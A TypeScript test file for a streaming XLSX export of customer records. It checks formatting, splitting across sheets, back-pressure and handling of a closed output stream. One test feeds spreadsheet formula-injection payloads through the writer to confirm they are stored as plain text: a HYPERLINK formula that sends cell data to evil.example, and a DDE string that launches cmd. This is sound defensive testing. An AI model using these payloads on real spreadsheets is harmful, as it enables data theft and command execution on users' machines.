import { createWriteStream, mkdtempSync, rmSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { finished } from 'node:stream/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import type { Customer } from '@custcode/core';
import { writeXlsx } from './xlsx-writer.js';

const directory = mkdtempSync(join(tmpdir(), 'custcode-xlsx-'));
afterAll(() => rmSync(directory, { recursive: true, force: true }));

const TOTAL = 1_203;

async function* customers(): AsyncGenerator<Customer> {
  for (let index = 0; index < TOTAL; index++) {
    yield {
      source: 's', erp: 'file', code: `KH${String(index).padStart(6, '0')}`, name: `上海测试客户${index}有限公司`,
      ...(index % 2 === 0 ? { phone: `021-${index}` } : {}), status: 'active', raw: {},
    };
  }
}

async function written(rowsPerSheet?: number): Promise<ExcelJS.Worksheet[]> {
  const file = join(directory, `rows-${rowsPerSheet ?? 'all'}.xlsx`);
  const output = createWriteStream(file);
  expect(await writeXlsx(customers(), output, { fields: ['code', 'name', 'phone'], ...(rowsPerSheet ? { rowsPerSheet } : {}) })).toBe(TOTAL);
  await finished(output);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook.worksheets;
}

describe('writeXlsx', () => {
  it('keeps a bold header, column widths and unstyled data rows across the back-pressure pauses', async () => {
    const [sheet] = (await written()) as [ExcelJS.Worksheet];
    expect(sheet.rowCount).toBe(TOTAL + 1);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect([1, 2, 3].map((column) => sheet.getColumn(column).width)).toEqual([16, 42, 16]);
    expect([1, 2, 3].map((column) => sheet.getRow(1).getCell(column).font?.bold)).toEqual([true, true, true]);
    for (const rowNumber of [2, 501, TOTAL + 1]) {
      expect([1, 2, 3].map((column) => sheet.getRow(rowNumber).getCell(column).font?.bold)).toEqual([undefined, undefined, undefined]);
    }
    expect(sheet.getRow(TOTAL + 1).values).toEqual([undefined, 'KH001202', '上海测试客户1202有限公司', '021-1202']);
    // An empty field is an empty cell, which reads back as absent.
    expect(sheet.getRow(TOTAL).values).toEqual([undefined, 'KH001201', '上海测试客户1201有限公司']);
  });

  it('waits on the zip stream of each sheet in turn when the rows span several sheets', async () => {
    // Back-pressure is checked every 500 rows: at a sheet's last row, and in a sheet whose zip entry waits for the previous one.
    const sheets = await written(500);
    expect(sheets.map((sheet) => sheet.rowCount)).toEqual([501, 501, 204]);
    expect(sheets[2]!.getRow(204).values).toEqual([undefined, 'KH001202', '上海测试客户1202有限公司', '021-1202']);
    expect(sheets[1]!.getRow(1).getCell(1).font?.bold).toBe(true);
  });
});

describe('writeXlsx to a reader that goes away', () => {
  it('fails (and stops reading) once its output is destroyed, instead of waiting for a drain that never comes', async () => {
    // An HTTP client that hangs up after the first bytes: the response stream is destroyed, the source is endless.
    let stopped = false;
    async function* endless(): AsyncGenerator<Customer> {
      try {
        for (let index = 0; ; index++) yield { source: 's', erp: 'file', code: `KH${index}`, name: `上海测试客户${index}有限公司`.repeat(4), status: 'active', raw: {} };
      } finally {
        stopped = true;
      }
    }
    const output = new PassThrough();
    output.once('data', () => output.destroy());
    const outcome = writeXlsx(endless(), output).then(() => 'finished', (error: Error) => error.message);
    const hung = new Promise((resolve) => setTimeout(resolve, 5_000, 'still waiting after 5 s'));
    expect(await Promise.race([outcome, hung])).toBe('The output stream was closed before everything was written.');
    expect(stopped).toBe(true);
  });
});

describe('writeXlsx and formulas', () => {
  it('stores a name starting with = (and other formula starts) as a string cell, never as a formula', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3'];
    const file = join(directory, 'formulas.xlsx');
    const output = createWriteStream(file);
    async function* records(): AsyncGenerator<Customer> {
      for (const [index, name] of hostile.entries()) yield { source: 's', erp: 'file', code: `C${index}`, name, status: 'active', raw: {} };
    }
    await writeXlsx(records(), output, { fields: ['code', 'name'] });
    await finished(output);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0]!;
    // ExcelJS reads a <f> element of the sheet XML as a Formula cell: every one here is a plain string.
    hostile.forEach((name, index) => {
      const cell = sheet.getRow(index + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(name);
    });
  });
});
